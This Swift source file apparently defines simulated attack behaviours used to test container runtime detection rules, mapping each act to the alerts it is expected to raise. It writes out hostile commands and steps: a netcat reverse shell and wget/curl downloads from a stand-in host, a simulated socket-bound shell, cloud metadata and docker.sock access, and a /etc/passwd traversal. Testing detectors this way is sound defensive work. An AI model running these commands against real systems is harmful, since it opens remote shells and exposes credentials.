/// Acts on the network by the shell script, and the web server's own.
extension AttackWorkload {
    static let networkActs: [Act] = [
        Act(name: "netcat") {
            $0.run(
                $1, $0.program("/usr/bin/nc", ["-e", "/bin/sh", "203.0.113.5", "4444"]),
                upstream: [
                    "Netcat Remote Code Execution in Container",
                    "Launch Suspicious Network Tool in Container",
                ], own: ["Netcat hands a program to the network"])
        },
        Act(name: "scan") {
            $0.run(
                $1, $0.program("/usr/bin/nmap", ["-sT", "10.0.0.0/24"]),
                upstream: ["Launch Suspicious Network Tool in Container"],
                own: ["Network scanner or sniffer run"])
        },
        Act(name: "download") {
            $0.run(
                $1, $0.program("/usr/bin/wget", ["-q", "http://203.0.113.5/x"]),
                upstream: ["Launch Ingress Remote File Copy Tools in Container"])
        },
        Act(name: "sniff") { attack, task in
            attack.run(task, attack.program("/usr/bin/python3", ["sniff.py"])) { child in
                let number = attack.sandbox.socket(child, family: 17, type: 3)
                attack.expect(
                    child, upstream: ["Packet socket created in container"],
                    own: ["Raw view of the network opened"])
                attack.sandbox.close(child, number)
            }
        },
        Act(name: "reverse shell") { attack, task in
            let sandbox = attack.sandbox
            attack.run(task, attack.program("/usr/bin/python3", ["shell.py"])) { child in
                let number = sandbox.socket(child)
                sandbox.connect(child, number, sandbox.address(203, 0, 113, 5, port: 4_444))
                for stream in 0..<3 {
                    sandbox.duplicate(child, number, to: stream)
                    attack.expect(
                        child,
                        upstream: ["Redirect STDOUT/STDIN to Network Connection in Container"],
                        own: ["Standard stream tied to the network"])
                }
                sandbox.exec(child, attack.program("/bin/sh", ["-i"], at: "/usr/bin/dash"))
                sandbox.load(child, ["libc.so.6"])
            }
        },
        Act(name: "metadata") { attack, task in
            let sandbox = attack.sandbox
            attack.run(task, attack.program("/usr/bin/python3", ["creds.py"])) { child in
                let number = sandbox.socket(child)
                sandbox.connect(child, number, sandbox.address(169, 254, 169, 254, port: 80))
                attack.expect(
                    child,
                    upstream: [
                        "Contact EC2 Instance Metadata Service From Container",
                        "Contact cloud metadata service from container",
                    ], own: ["Cloud metadata service contacted"])
                sandbox.close(child, number)
            }
        },
        Act(name: "runtime socket") { attack, task in
            let sandbox = attack.sandbox
            attack.run(task, attack.program("/usr/bin/python3", ["docker.py"])) { child in
                let number = sandbox.socket(child, family: 1)
                sandbox.connect(child, number, sandbox.address(unix: "/var/run/docker.sock"))
                attack.expect(child, own: ["Container runtime's socket contacted"])
                sandbox.close(child, number)
            }
        },
        Act(name: "shell connection") { attack, task in
            let sandbox = attack.sandbox
            let number = sandbox.socket(task)
            sandbox.connect(task, number, sandbox.address(203, 0, 113, 9, port: 443))
            attack.expect(
                task, upstream: ["System procs network activity"],
                own: ["Shell opened a network connection"])
            sandbox.close(task, number)
        },
    ]

    static let serverActs: [Act] = [
        Act(name: "web shell") { attack, task in
            attack.run(
                task, attack.program("/bin/sh", ["-c", "id"], at: "/usr/bin/dash"),
                upstream: ["Run shell untrusted", "Web Server Spawned Shell"],
                own: ["Shell started by a network server"]
            ) { child in
                attack.run(
                    child, attack.program("/usr/bin/id"),
                    upstream: ["Web Server Spawned Suspicious Child Process"])
            }
        },
        Act(name: "web download") {
            $0.run(
                $1, $0.program("/usr/bin/curl", ["-s", "http://203.0.113.5/x"]),
                upstream: ["Web Server Spawned Suspicious Child Process"],
                own: ["Download by a network server"])
        },
        Act(name: "traversal") { attack, task in
            let sandbox = attack.sandbox
            let number = sandbox.open(task, "/var/www/html/../../../etc/passwd")
            attack.expect(task, upstream: ["Directory traversal monitored file read"])
            sandbox.close(task, number)
        },
        Act(name: "become root") { attack, task in
            var draft = Draft()
            draft.errno = 1
            attack.sandbox.call(task, .setuid, draft)
            attack.expect(task, own: ["Refused change to root"])
        },
        Act(name: "ask for root") {
            $0.run(
                $1, $0.program("/usr/bin/su", ["-c", "id"]),
                own: ["Ordinary user asks for root"])
        },
    ]
}
